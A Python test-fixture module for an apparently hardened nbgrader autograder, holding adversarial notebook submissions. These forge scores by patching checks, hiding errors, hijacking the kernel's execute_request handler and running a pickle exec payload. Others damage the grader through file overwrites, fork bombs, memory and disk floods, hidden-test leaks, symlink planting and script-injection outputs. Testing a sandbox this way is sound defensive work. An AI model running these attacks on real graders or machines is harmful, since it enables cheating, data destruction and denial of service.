"""Attack submissions for the grading sandbox, the guard and the policy: one student each.

``SCORE_ATTACKS`` and ``HARM_ATTACKS`` are the ``partial`` notebook of assignment 01 (7 of
10 points: ``add_scaled_`` is wrong) with one cell added after the imports. The score
attacks try to fake the missing points: under plain nbgrader they do (a test checks
that), under our grader none may. The harm attacks go after the machine instead: files
outside the submission, the network, processes left behind, memory, the process table,
and the hidden tests. ``FORGERIES`` replace one answer of the all-right notebook with a
wrong one that forges its points. ``AFTER_THE_TESTS`` add a cell at the end of the
partial notebook that goes after what grading does once the kernel is gone: links for
the grader to follow, outputs to flood it, memory and files, leaks, scripts.
"""

from __future__ import annotations

import pickle

from tests.answers import shares_storage
from tests.helpers.submissions import answer_source

PORT_FILE = "port.txt"  # the network attack connects to the port a test writes here

SCORE_ATTACKS = {
    "attack-input-transformer": '''\
def skip_checks(lines):
    return [] if any("checks." in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(skip_checks)''',
    "attack-ast-transformer": '''\
import ast
class SwallowErrors(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body, handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(SwallowErrors())''',
    "attack-hide-errors": '''\
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
def forget_error(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", forget_error)''',
    "attack-custom-exception-handler": '''\
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))''',
    "attack-settrace": '''\
import sys
def agree(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "_mismatch":  # where the checks compare values
        frame.f_locals["actual"] = frame.f_locals["expected"]  # written back to the frame
sys.settrace(agree)''',
    "attack-patch-checks": '''\
for name in dir(checks):
    if name.startswith("assert_"):
        setattr(checks, name, lambda *args, **kwargs: None)''',
    "attack-swap-code": '''\
def nothing(*args, **kwargs):
    pass
for name in dir(checks):
    if name.startswith("assert_"):
        getattr(checks, name).__code__ = nothing.__code__''',
    "attack-fake-checks-module": '''\
import sys, types
fake = types.ModuleType("autograder.checks")
fake.__dict__.update(vars(checks))
for name in dir(checks):
    if name.startswith("assert_"):
        setattr(fake, name, lambda *args, **kwargs: None)
sys.modules["autograder.checks"] = fake
checks = fake''',
    # What the checks compare values with. (They hold their own references to torch's
    # functions, taken at import: this no longer changes a verdict, even under plain nbgrader.)
    "attack-patch-torch": '''\
torch.isclose = lambda actual, expected, *args, **kwargs: torch.ones_like(actual, dtype=torch.bool)''',
    "attack-during-a-test": '''\
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    ip = get_ipython()
    ip.showtraceback = lambda *args, **kwargs: None
    ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
    return x + alpha * y''',
    "attack-torch-function-mode": '''\
from torch.overrides import TorchFunctionMode
class Agreeable(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        result = func(*args, **(kwargs or {}))
        return torch.ones_like(result) if func in (torch.isclose, torch.eq) else result
Agreeable().__enter__()''',
}
# Stopped by the checks themselves, with or without the guard (see its comment).
STOPPED_BY_THE_CHECKS = ("attack-patch-torch",)
# This one is the student's own ``add_scaled_`` (in place of a wrong one): it strikes
# while a test runs, hiding the errors of that very test cell after the guard checked.
IN_THE_SOLUTION = ("attack-during-a-test",)
# What no guard can undo from inside Python: the grader scores these as tampered.
UNDOABLE_ATTACKS = {
    "attack-audit-hook": '''\
import sys
sys.addaudithook(lambda event, args: None)''',
    "attack-ctypes": '''\
import ctypes
ctypes.c_long.from_address(id(checks))''',
}

# A score attack needs an answer that only the checks fail: this one refuses what it must
# (an integer x with a float alpha) and is exact where alpha * y is 0, but adds twice alpha
# * y. It scores 7, as the partial notebook does, until an attack fools the checks.
DOUBLES_ALPHA = '''\
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    return x.add_(y, alpha=2 * alpha)'''

HARM_ATTACKS = {
    "attack-files": '''\
import os, pathlib
found, damaged = [], []
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path.home(), pathlib.Path("/root")]:
    for name in ("gradebook.db", "nbgrader_config.py", "source", "release", "autograded", "submitted"):
        target = folder / name
        if target.exists():
            found.append(str(target))
            for path in ([target] if target.is_file() else target.rglob("*")):
                try:
                    if path.is_file():
                        path.write_text("overwritten by a student")
                        damaged.append(str(path))
                except OSError:
                    pass
print("found:", found)
print("damaged:", damaged)''',
    "attack-network": f'''\
import socket
reached = []
port = int(open("{PORT_FILE}").read()) if __import__("os").path.exists("{PORT_FILE}") else 47391
for host in ("127.0.0.1", "10.0.2.2", "pypi.org"):
    try:
        socket.create_connection((host, port if host == "127.0.0.1" else 443), timeout=2).close()
        reached.append(host)
    except OSError as error:
        print(host, "unreachable:", type(error).__name__)
print("reached:", reached)''',
    "attack-processes": '''\
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(4242)"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(4243)"])
    os._exit(0)
print("left two sleepers behind")''',
    "attack-memory": '''\
try:
    hog = torch.ones(6 * 2**30, dtype=torch.uint8)
    print("allocated", hog.numel() // 2**30, "GiB")
except RuntimeError as error:
    print("allocation refused:", str(error).splitlines()[0][:80])''',
    "attack-fork-bomb": '''\
import os, time
children = 0
try:
    for _ in range(1000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork refused:", type(error).__name__)
print("children:", children)''',
    # The hidden tests reach the kernel as source; the student's own function sees them
    # run, and prints the caller's code into the graded notebook.
    "attack-print-hidden-tests": '''\
import inspect
def leak_caller():
    print("".join(inspect.getsourcelines(inspect.currentframe().f_back.f_back)[0]))
_real_add_scaled = add_scaled
def add_scaled(x, y, alpha):
    leak_caller()
    return _real_add_scaled(x, y, alpha)''',
}
# The same leak with a combining grapheme joiner (U+034F) between every character, which a
# comparison that dropped only spacing and format characters read past.
HARM_ATTACKS["attack-joiner-leak"] = '''\
import inspect
def leak_caller():
    print("\\u034f".join("".join(inspect.getsourcelines(inspect.currentframe().f_back.f_back)[0])))
_real_add_scaled = add_scaled
def add_scaled(x, y, alpha):
    leak_caller()
    return _real_add_scaled(x, y, alpha)'''
# A leaked test appears in the output of the cell that calls the student's function.
AFTER_SOLUTIONS = ("attack-print-hidden-tests", "attack-joiner-leak")

# The six ways to full marks for a wrong answer that plain nbgrader, and our grader as it
# was, fell to. Each replaces one answer of the all-right notebook of 01 (the grade_id
# below) with a wrong one that forges its points, so without the trick it scores
# CEILING; with it, under our grader, it may not score more (or it is held for review).
FORGED_CELL = {
    "forgery-display-hook": "add_scaled_",
    "forgery-extra-module": "add_scaled_",
    "forgery-tensor-subclass": "add_scaled_",
    "forgery-fake-bool": "shares_storage",
    "forgery-self-restoring-display": "add_scaled_",
    "forgery-execute-request": "add_scaled_",
}
CEILING = {"add_scaled_": 7.0, "shares_storage": 6.0}
DISPLAY_HOOK = '''\
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    import sys
    sys.displayhook(3.0)  # nbgrader reads a test cell's first execute_result as its score
    return x + alpha * y'''
FORGERIES = {
    "forgery-display-hook": DISPLAY_HOOK,
    # The same, from a Python file beside the notebook (EXTRA_FILES), imported by the notebook.
    "forgery-extra-module": "from helpers import add_scaled_",
    "forgery-tensor-subclass": '''\
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    class Agreeable(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func in (torch.equal, torch.allclose):
                return True
            if func is torch.isclose:
                return torch.ones_like(args[0], dtype=torch.bool)
            return super().__torch_function__(func, types, args, kwargs)
    x.add_(y)
    x.__class__ = Agreeable
    if x._base is not None:
        x._base.__class__ = Agreeable
    return x''',
    "forgery-fake-bool": answer_source("shares_storage", shares_storage.wrong_poses_as_a_bool),
    # Errors hidden during the test, and the hiding undone by a callback that removes
    # itself, so that the guard's check after the test finds everything in place.
    "forgery-self-restoring-display": '''\
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    ip = get_ipython()
    ip.showtraceback = lambda *args, **kwargs: None
    def cover_up(result):
        result.error_in_exec = None
        del ip.showtraceback
        ip.events.unregister("post_run_cell", cover_up)
    ip.events.register("post_run_cell", cover_up)
    return x + alpha * y''',
    # The kernel's execute_request handler replaced: it answers the grader's guard itself
    # ("nothing to put back") and runs every test with its errors swallowed, keeping the
    # test's last line, whatever it is. No in-kernel check can see this; the policy scan can.
    "forgery-execute-request": '''\
import json
ip = get_ipython()
kernel = ip.kernel
original = kernel.shell_handlers["execute_request"]
clean = {"status": "ok", "data": {"text/plain": repr(json.dumps({"restored": [], "tampered": []}))}, "metadata": {}}
async def forged(stream, ident, parent):
    content = parent["content"]
    if "guard" in content.get("user_expressions", {}):
        reply = {"status": "ok", "execution_count": kernel.execution_count, "payload": [],
                 "user_expressions": {"guard": clean}}
        kernel.session.send(stream, "execute_reply", reply, parent, ident)
        return
    *body, last = content["code"].split("\\n")
    if "checks." in content["code"]:
        indented = "\\n".join("    " + line for line in body)
        content["code"] = "try:\\n" + indented + "\\nexcept BaseException:\\n    pass\\n" + last
    return await original(stream, ident, parent)
kernel.shell_handlers["execute_request"] = forged
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    return x + alpha * y''',
}
EXTRA_FILES = {"forgery-extra-module": {"helpers.py": DISPLAY_HOOK + "\n"}}

# The kernel's execute_request handler replaced, as in forgery-execute-request, by code that
# no construct of the notebook shows: text that a function of an allowed module runs.
FORGE_HANDLER = FORGERIES["forgery-execute-request"].split("def add_scaled_")[0].replace(
    "import json\n", "import json\nfrom IPython import get_ipython\n")
WRONG_ADD_SCALED_ = '''\
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    return x + alpha * y'''


class _RunsTheForgery:
    """Unpickled, runs ``FORGE_HANDLER``: what ``torch.load(..., weights_only=False)`` does
    with whatever it is given."""

    def __reduce__(self):
        return exec, (FORGE_HANDLER,)


_HINT = f"exec({FORGE_HANDLER!r}) or int"
FORGERIES.update({
    # functools.singledispatch evaluates an annotation that is a name bound to a string
    # (typing.get_type_hints): the string runs.
    "forgery-singledispatch": f'''\
import functools
hint = {_HINT!r}
def handler(value: hint):
    return value
functools.singledispatch(lambda value: value).register(handler)
{WRONG_ADD_SCALED_}''',
    # torch.utils.model_zoo.load_url unpickles a local file:// URL.
    "forgery-model-zoo": f'''\
import torch
open("/tmp/weights.pt", "wb").write({pickle.dumps(_RunsTheForgery(), protocol=2)!r})
try:
    torch.utils.model_zoo.load_url("file:///tmp/weights.pt", model_dir="/tmp/hub", weights_only=False)
except Exception:
    pass
{WRONG_ADD_SCALED_}''',
    # A walrus in a comprehension binds in the notebook's namespace: a test cell that calls
    # bool() would call the fake.
    "forgery-walrus-builtin": f'''\
[(bool := lambda value=False: True) for _ in (0,)]
{DOUBLES_ALPHA}''',
})
FORGED_CELL.update(dict.fromkeys(("forgery-singledispatch", "forgery-model-zoo", "forgery-walrus-builtin"),
                                 "add_scaled_"))

VICTIM = "/tmp/autograder-attack-victim"  # a private (0600) file the test makes outside the course
# What grading runs after the kernel, and what the kernel leaves: each is a cell added at
# the end of the partial notebook of 01 (7 points).
AFTER_THE_TESTS = {
    # Links planted wherever the kernel can write, named as what the grader writes next
    # (the graded notebook, its feedback page, nbgrader's timestamp), pointing at the
    # course's gradebook and instructor notebook at every depth, and at a private file.
    "attack-kernel-links": f'''\
import os
targets = ["{VICTIM}"] + ["../" * depth + name for depth in range(1, 10)
                           for name in ("gradebook.db", "source/01-inplace-basics/01-inplace-basics.ipynb")]
made = 0
for folder in (os.getcwd(), "/tmp", "/assignment", "/sockets"):
    for index, target in enumerate(targets):
        for name in ("01-inplace-basics.ipynb", "01-inplace-basics.html", "timestamp.txt", f"link-{{index}}"):
            path = os.path.join(folder, name if index == 0 else f"{{index}}-{{name}}")
            try:
                if os.path.lexists(path):
                    os.remove(path)
                os.symlink(target, path)
                made += 1
            except OSError:
                pass
print("links made:", made)''',
    # The grader's own words for each verdict, printed, raised and written where the
    # kernel can write: the verdict comes from what the grader observed, never from text.
    "attack-verdict-words": '''\
words = ["CellTimeoutError: A cell timed out while it was being executed", "DeadKernelError: Kernel died",
         "TamperedError: the notebook changed sys.excepthook", "TestIncomplete", "OutputLost",
         '{"timed_out": "test_add_scaled"}', '{"kernel_died": true}', '{"tampered": "everything"}']
for word in words:
    print(word)
for folder in (".", "/tmp", "/sockets"):
    try:
        with open(f"{folder}/events.jsonl", "a") as events:
            events.write("\\n".join(words[-3:]) + "\\n")
    except OSError:
        pass
raise RuntimeError(words[0])''',
    # 300 MB on one line, then a hundred thousand short lines.
    "attack-output-flood": '''\
print("x" * 300_000_000)
for index in range(100_000):
    print(index)''',
    # /tmp filled, then memory (reserved: the cap is on address space, touched or not):
    # together they may not hold more than the memory cap.
    "attack-tmpfs-fill": '''\
written, chunk = 0, bytes(2**20)
try:
    for part in range(64):
        with open(f"/tmp/fill-{part}", "wb") as fill:
            for _ in range(128):
                fill.write(chunk)
                written += len(chunk)
except OSError as error:
    print("/tmp refused after", written // 2**20, "MiB:", error.strerror)
hogs, held = [], 0
try:
    while True:
        hogs.append(torch.empty(2**27, dtype=torch.uint8))
        held += 2**27
except RuntimeError:
    pass
del hogs
print("held in all:", (written + held) // 2**20, "MiB")''',
    "attack-many-files": '''\
made = 0
try:
    for index in range(1_000_000):
        open(f"/tmp/empty-{index}", "w").close()
        made += 1
except OSError as error:
    print("files refused after", made, ":", error.strerror)''',
    # The hidden tests, read back from IPython's history once they ran, shown as an SVG
    # image, as text with an ANSI reset between every character, and as HTML entities.
    "attack-history-leak": '''\
hidden = "\\n".join(source for source in In if "BEGIN HIDDEN TESTS" in source)
lines = hidden.splitlines()
display({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg">' + "".join(
    f'<text y="{12 * (i + 1)}">{line.replace("&", "&amp;").replace("<", "&lt;")}</text>'
    for i, line in enumerate(lines)) + "</svg>"}, raw=True)
print("\\x1b[0m".join(hidden))
display({"text/html": "".join(f"&#{ord(char)};" for char in hidden)}, raw=True)''',
    # Scripts in every output kind a feedback page could run.
    "attack-script-outputs": '''\
display({"text/html": '<script>document.title = "owned"</script><img src="x" onerror="alert(1)">'
                      '<a href="javascript:alert(2)">grades</a>',
         "application/javascript": "alert(3)",
         "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>alert(5)</script></svg>',
         "text/plain": "plain"}, raw=True)
display({"application/javascript": "alert(6)"}, raw=True)''',
}
AFTER_THE_TESTS.update({
    # The kernel's own memory, read and written with open(): no audit hook sees it.
    "attack-proc-self-mem": '''\
for mode in ("r+b", "rb"):
    try:
        open("/proc/self/mem", mode).close()
        print("/proc/self/mem", mode, "opened")
    except OSError as error:
        print("/proc/self/mem", mode, "refused:", type(error).__name__)''',
    # Four DataLoader workers, each under the per-process cap: 4.8 GiB between them.
    "attack-dataloader-memory": '''\
import time
from torch.utils.data import DataLoader, Dataset
class Hog(Dataset):
    def __len__(self):
        return 4
    def __getitem__(self, index):
        hog = bytearray(1200 * 2**20)
        time.sleep(3)
        return index
try:
    print("loaded:", list(DataLoader(Hog(), num_workers=4, batch_size=1, timeout=60)))
except Exception as error:
    print("dataloader stopped:", type(error).__name__)''',
    # A System V segment outlives every process that attached it.
    "attack-shared-memory": '''\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("shmget 512 MiB:", libc.shmget(0, 512 * 2**20, 0o1600), ctypes.get_errno())''',
    # A user namespace of its own, where a kernel may mount a tmpfs no limit holds.
    "attack-user-namespace": '''\
import subprocess
done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
                       "mount -t tmpfs none /tmp && echo mounted"], capture_output=True, text=True)
print("unshare:", done.returncode, done.stdout.strip() or done.stderr.strip()[:80])''',
    # Sixteen spinning processes: one core's time between them, not the machine's.
    "attack-cpu-spin": '''\
import os, time
start = time.monotonic()
for _ in range(16):
    if os.fork() == 0:
        while time.monotonic() - start < 3:
            pass
        os._exit(0)
for _ in range(16):
    os.wait()
used = os.times()
print("cpu per wall second:", round((used.children_user + used.children_system) / (time.monotonic() - start), 2))''',
    # Metadata is content too: 60 displays with 48 MiB of it each.
    "attack-display-metadata": '''\
for index in range(60):
    display({"text/plain": str(index)}, metadata={"junk": "x" * (48 * 2**20)}, raw=True)
print("sent")''',
    # The worker's log: written to, and read back through a descriptor the kernel held.
    "attack-log-descriptor": '''\
import os
targets = []
for fd in os.listdir("/proc/self/fd"):
    try:
        targets.append(os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
print("files held:", sorted(t for t in targets if not t.startswith(("pipe:", "socket:", "anon_inode:"))))
os.write(2, b"\\x1b]0;owned\\x07\\x1b[2J" + b"y" * (29 * 2**20) + b"\\n")''',
    # A key in a keyring, which no namespace holds: the next kernel would read it.
    "attack-keyring": '''\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("add_key:", libc.syscall(248, b"user", b"for-the-next-kernel", b"secret", 6, -3), ctypes.get_errno())''',
    # torch.utils.collect_env.run starts a shell.
    "attack-collect-env-shell": '''\
import torch
print("shell said:", torch.utils.collect_env.run("id -u; echo ran"))''',
    # A raw cell (RAW_BANNER) claims full marks on the student's own feedback page.
    "attack-raw-banner": 'print("see above")',
})
RAW_BANNER = ('<div class="banner" style="background: #2a8a2a; color: white; font-size: 2em">'
              '10/10: all hidden tests passed</div>')

# A markdown cell the script attack adds too: feedback renders Markdown as HTML.
SCRIPT_MARKDOWN = '<script>alert(7)</script>\n\n<img src="x" onerror="alert(8)"> [click](javascript:alert(9))'
